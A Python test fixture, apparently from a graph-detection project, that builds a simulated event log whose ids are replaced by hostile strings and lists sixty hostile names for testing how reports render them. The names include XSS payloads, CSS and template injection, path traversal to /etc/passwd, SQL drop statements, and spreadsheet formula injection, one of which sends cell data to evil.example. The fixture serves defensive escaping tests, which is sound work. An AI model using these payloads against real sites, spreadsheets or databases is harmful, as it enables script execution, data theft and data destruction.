"""A simulated log whose ids are replaced by all that ids should not be."""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from graphdet.verbs.simulate import simulate

SHAPES: tuple[Callable[[str], str], ...] = (
    lambda name: f'=cmd|"/C calc"!A0 \'{name}',
    lambda name: f"`{name}` ``twice``",
    lambda name: f'say "{name}", ok;\t|',
    lambda name: f"two\nlines\r\nof {name}",
    lambda name: f"<script>alert('{name}')</script>",
    lambda name: f"😀{name}👩‍👩‍👧",
    lambda name: f"O'Brien {name}",
    lambda name: f"\u202e{name}",
    lambda name: f"+{name}",
    lambda name: f"@SUM({name})",
    lambda name: f"-{name}",
    lambda name: f"]]>&amp;<!--{name}",
    lambda name: f"\\x00 \\n {name}'); DROP TABLE events; --",
    lambda name: f"$name {{{{ 7*7 }}}} %s {name} " + "x" * 300,
)
N_NUL = 25

_ALERT = "alert(document.domain)"
# Sixty names for the reports, among them some that no store lets in (NUL, half a surrogate pair): what is in a page
# must not depend on that.
NAMES: tuple[str, ...] = (
    # HTML and SVG
    f"<script>{_ALERT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><img src=x onerror={_ALERT}>",
    f'"><img src=x onerror={_ALERT}>',
    f"'><svg onload={_ALERT}>",
    f"<svg><script>{_ALERT}</script></svg>",
    f"<svg><a xlink:href=javascript:{_ALERT}><text>x</text></a></svg>",
    f"</title><script>{_ALERT}</script>",
    f"</desc></svg><script>{_ALERT}</script><svg>",
    f"</style><script>{_ALERT}</script>",
    f"</script><script>{_ALERT}</script>",
    f"</table></div></body><body onload={_ALERT}>",
    f"<iframe src=javascript:{_ALERT}>",
    "<base href=//evil.example/><form action=//evil.example/><button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_ALERT}></style></mglyph></math>",
    f"<details open ontoggle={_ALERT}>",
    f"<input autofocus onfocus={_ALERT}>",
    f"<a href='javascript:{_ALERT}'>click</a>",
    "<!--",
    "--><h1>loose</h1>",
    "<![CDATA[ x ]]> ]]>",
    "&lt;b&gt; &amp; &#60;b&#62; &nbsp;",
    "&#0; &#x1F; &bogus;",
    f"`{_ALERT}` ${{{_ALERT}}}",
    # CSS
    "expression(alert(1)); background:url(https://evil.example/x)",
    "}*{display:none}body{background:url(//evil.example)}",
    "@import 'https://evil.example/x.css';",
    "\\3c script\\3e",
    # URLs and paths
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/?q=<b>",
    "../../../../etc/passwd",
    "CON",
    # formulas
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    '=1,"two";three',
    # directions and what cannot be seen
    "\u202egnp.exe",
    "\u2066left\u2069\u2067right\u2069",
    "שלום עולם\u200f!",
    "zero\u200bwidth\u200cjoin\u200d\ufeff",
    "soft\u00adhyphen\u2028line\u2029paragraph",
    "Z" + "\u0335\u0321\u0489" * 60 + "algo",
    # control characters and what is no text
    "nul\x00inside",
    "bell\x07 escape\x1b[31mred delete\x7f",
    "two\nlines\r\nand\ttabs",
    "half \ud800 a pair \udfff",
    "\ufffe\uffff not characters",
    # templates, queries, sizes
    "{{ 7*7 }}{% raw %}{{ config }}${7*7}#{7*7}<%= 7*7 %>",
    "'); DROP TABLE events; -- MATCH (n) DETACH DELETE n //",
    "W" * 10_000,
    "😀👩‍👩‍👧🏴‍☠️ 漢字 ünïcödé",
)


@dataclass(frozen=True)
class HostileRun:
    """The log, the output folder of the run over it, and the ids it has."""

    log: Path
    out: Path
    user_ids: frozenset[str]
    item_ids: frozenset[str]


def hostile(ids: pa.ChunkedArray) -> list[str]:
    """Give every id one of the shapes, always the same one."""
    return [SHAPES[sum(map(ord, name)) % len(SHAPES)](name) for name in ids.cast(pa.string()).to_pylist()]


def write_hostile_log(folder: Path) -> HostileRun:
    """A log large enough to learn from, with rings; the last N_NUL rows have a NUL in the user's id."""
    simulate(folder / "plain.parquet", n_users=3_000, n_items=800, days=14, plan="benchmark", seed=2)
    table = pq.read_table(folder / "plain.parquet")
    for name in ("user_id", "item_id", "session_id"):
        renamed = pa.array(hostile(table[name]), pa.string())
        table = table.set_column(table.column_names.index(name), name, renamed)
    nul = pa.array([f"nul\x00{n}" for n in range(N_NUL)])
    broken = table.slice(table.num_rows - N_NUL).set_column(0, "user_id", nul)
    pq.write_table(pa.concat_tables([table, broken]), folder / "hostile.parquet")
    users, items = (frozenset(table[name].to_pylist()) for name in ("user_id", "item_id"))
    return HostileRun(folder / "hostile.parquet", folder / "out", users, items)
